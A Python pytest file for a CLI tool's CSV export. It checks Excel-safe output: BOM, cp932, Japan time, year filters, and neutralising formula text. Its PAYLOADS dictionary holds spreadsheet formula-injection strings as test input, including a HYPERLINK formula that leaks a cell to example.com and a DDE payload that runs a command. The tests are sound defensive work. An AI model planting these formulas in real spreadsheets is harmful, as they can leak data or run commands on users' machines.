"""CSV that opens cleanly and safely in Japanese Excel: `kokuho export --view … --format csv` and
`kokuho sql --format csv` (BOM, cp932, Japan time, --year, formula text neutralised)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from test_warehouse import load_fixture, make_fixture

from kokuho.cli import main as kokuho_main

BOM = b"\xef\xbb\xbf"

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://example.com/?leak="&A1,"詳細")',
    "dde": "+cmd|' /C calc'!A0",
    "minus formula": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The fixture warehouse plus two test views: `payloads` (formula text, numbers, a character
    cp932 lacks) and `plain` (no fiscal_year)."""
    directory = tmp_path_factory.mktemp("csv")
    path = directory / "kokuho.duckdb"
    load_fixture(path, make_fixture(directory / "catalogs"))
    con = duckdb.connect(str(path))
    try:
        con.execute(
            "CREATE TABLE payload_rows (fiscal_year INTEGER, id VARCHAR, text VARCHAR, n INTEGER, x DOUBLE)"
        )
        rows = [(2024, key, value, -3, -1.5) for key, value in PAYLOADS.items()]
        rows += [(2024, "negative text", "-3", -3, -1.5), (2023, "not in cp932", "𠮷野家", 1, 0.5)]
        con.executemany("INSERT INTO payload_rows VALUES (?, ?, ?, ?, ?)", rows)
        con.execute("CREATE VIEW payloads AS SELECT * FROM payload_rows")
        con.execute("CREATE VIEW plain AS SELECT id, text FROM payload_rows")
    finally:
        con.close()
    return path


@pytest.fixture(autouse=True)
def _no_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("KOKUHO_DB", "KOKUHO_HOME", "KOKUHO_PREFECTURE", "KOKUHO_YEAR"):
        monkeypatch.delenv(name, raising=False)


def export(db: Path, out: Path, *args: str) -> int:
    return kokuho_main(["export", "--db", str(db), "--out", str(out), "--format", "csv", *args])


def read_export(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def by_id(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in rows}


@pytest.fixture(scope="module")
def exported(db: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    out = tmp_path_factory.mktemp("csvout") / "payloads.csv"
    assert export(db, out, "--view", "payloads") == 0
    return by_id(read_export(out))


@pytest.fixture(scope="module")
def queried(db: Path) -> dict[str, dict[str, str]]:
    capture = io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(capture):
        assert kokuho_main(["sql", "--db", str(db), "--format", "csv", "SELECT * FROM payloads"]) == 0
    return by_id(list(csv.DictReader(io.StringIO(capture.getvalue()))))


@pytest.mark.parametrize("key", PAYLOADS.keys())
@pytest.mark.parametrize("command", ["export", "sql"])
def test_formula_text_is_neutralised(
    exported: dict[str, dict[str, str]], queried: dict[str, dict[str, str]], command: str, key: str
) -> None:
    row = (exported if command == "export" else queried)[key]
    assert row["text"] == "'" + PAYLOADS[key]


@pytest.mark.parametrize("command", ["export", "sql"])
def test_numbers_stay_numbers(
    exported: dict[str, dict[str, str]], queried: dict[str, dict[str, str]], command: str
) -> None:
    rows = exported if command == "export" else queried
    assert (rows["hyperlink"]["n"], rows["hyperlink"]["x"], rows["hyperlink"]["fiscal_year"]) == (
        "-3",
        "-1.5",
        "2024",
    )
    assert rows["negative text"]["text"] == "-3"  # text that is a plain number reads as that number


def test_bom_and_crlf_by_default(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "ms.csv"
    assert export(db, out, "--view", "measure_summary") == 0
    data = out.read_bytes()
    assert data.startswith(BOM)
    assert data.count(b"\r\n") == data.count(b"\n") > 1
    rows = read_export(out)
    assert rows[0]["label"] and any("スマホアプリ収納" in row["label"] for row in rows)


def test_utf8_without_bom_on_request(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "ms.csv"
    assert export(db, out, "--view", "measure_summary", "--encoding", "utf-8") == 0
    assert out.read_bytes().startswith(b"fiscal_year,")


def test_cp932(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "ms.csv"
    assert export(db, out, "--view", "measure_summary", "--encoding", "cp932") == 0
    text = out.read_bytes().decode("cp932")
    assert text.startswith("fiscal_year,") and "スマホアプリ収納" in text


def test_cp932_names_what_it_cannot_encode(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "p.csv"
    assert export(db, out, "--view", "payloads", "--encoding", "cp932") == 1
    err = capsys.readouterr().err
    assert "U+20BB7" in err and "列 text" in err and "cp932" in err and "utf-8-sig" in err
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_timestamps_in_japan_time_as_sql_prints_them(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "ss.csv"
    assert export(db, out, "--view", "submission_status", "--year", "2024") == 0
    exported = {r["municipality_code"]: r["latest_received_at"] for r in read_export(out)}
    assert exported["112071"] == "2024-05-10 09:00:00+09:00"
    capsys.readouterr()
    sql = "SELECT latest_received_at FROM submission_status WHERE fiscal_year = 2024 AND municipality_code = '112071'"
    assert kokuho_main(["sql", "--db", str(db), "--format", "csv", sql]) == 0
    assert capsys.readouterr().out.splitlines()[1] == exported["112071"]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_year_filters(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str) -> None:
    every, one_year = tmp_path / f"all.{fmt}", tmp_path / f"2024.{fmt}"
    assert (
        kokuho_main(
            ["export", "--db", str(db), "--view", "measure_summary", "--format", fmt, "--out", str(every)]
        )
        == 0
    )
    assert "全年度" in capsys.readouterr().out
    argv = [
        "--db",
        str(db),
        "--view",
        "measure_summary",
        "--format",
        fmt,
        "--out",
        str(one_year),
        "--year",
        "2024",
    ]
    assert kokuho_main(["export", *argv]) == 0
    assert "令和6年度" in capsys.readouterr().out
    reader = "read_csv" if fmt == "csv" else "read_parquet"
    years = [
        duckdb.sql(f"SELECT fiscal_year, count(*) FROM {reader}('{path}') GROUP BY ALL ORDER BY 1").fetchall()
        for path in (every, one_year)
    ]
    assert years == [[(2023, 6), (2024, 6)], [(2024, 6)]]


def test_year_on_a_view_without_fiscal_year_is_refused(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "plain.csv"
    assert export(db, out, "--view", "plain", "--year", "2024") == 1
    err = capsys.readouterr().err
    assert "fiscal_year" in err and "--year" in err
    assert not out.exists()
    assert export(db, out, "--view", "plain") == 0 and len(read_export(out)) == len(PAYLOADS) + 2


def test_encoding_only_with_csv(db: Path, tmp_path: Path) -> None:
    argv = ["--db", str(db), "--view", "plain", "--format", "parquet", "--out", str(tmp_path / "p.parquet")]
    assert kokuho_main(["export", *argv, "--encoding", "cp932"]) == 2  # a usage error


@pytest.mark.parametrize("command", ["export", "sql", "status"])
def test_missing_database_names_the_next_step(
    db: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    command: str,
) -> None:
    from kokuho.cli import main as kokuho_main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "kokuho_demo").mkdir()
    (tmp_path / "kokuho_demo" / "kokuho.duckdb").write_bytes(db.read_bytes())
    missing = str(tmp_path / "none.duckdb")
    if command == "export":
        assert export(Path(missing), tmp_path / "x.csv", "--view", "plain") != 0
    elif command == "sql":
        assert kokuho_main(["sql", "--db", missing, "SELECT 1"]) != 0
    else:
        assert kokuho_main(["status", "--db", missing]) != 0
    err = capsys.readouterr().err
    assert "none.duckdb" in err and "--db PATH" in err and "KOKUHO_DB" in err
    assert "--db ./kokuho_demo/kokuho.duckdb" in err


@pytest.mark.parametrize(("encoding", "start"), [("utf-8-sig", BOM + b"label\n"), ("utf-8", b"label\n")])
def test_sql_csv_encoding(
    db: Path, capsysbinary: pytest.CaptureFixture[bytes], encoding: str, start: bytes
) -> None:
    sql = "SELECT label FROM measure_summary WHERE fiscal_year = 2024 ORDER BY position LIMIT 1"
    assert kokuho_main(["sql", "--db", str(db), "--format", "csv", "--encoding", encoding, sql]) == 0
    out = capsysbinary.readouterr().out
    assert out.startswith(start) and "収納".encode() in out


def test_sql_csv_cp932(db: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    sql = "SELECT label FROM measure_summary WHERE fiscal_year = 2024 ORDER BY position LIMIT 1"
    assert kokuho_main(["sql", "--db", str(db), "--format", "csv", "--encoding", "cp932", sql]) == 0
    assert "収納" in capsysbinary.readouterr().out.decode("cp932")
    assert (
        kokuho_main(
            ["sql", "--db", str(db), "--format", "csv", "--encoding", "cp932", "SELECT text FROM payloads"]
        )
        == 1
    )
    captured = capsysbinary.readouterr()
    assert "U+20BB7" in captured.err.decode() and captured.out == b""
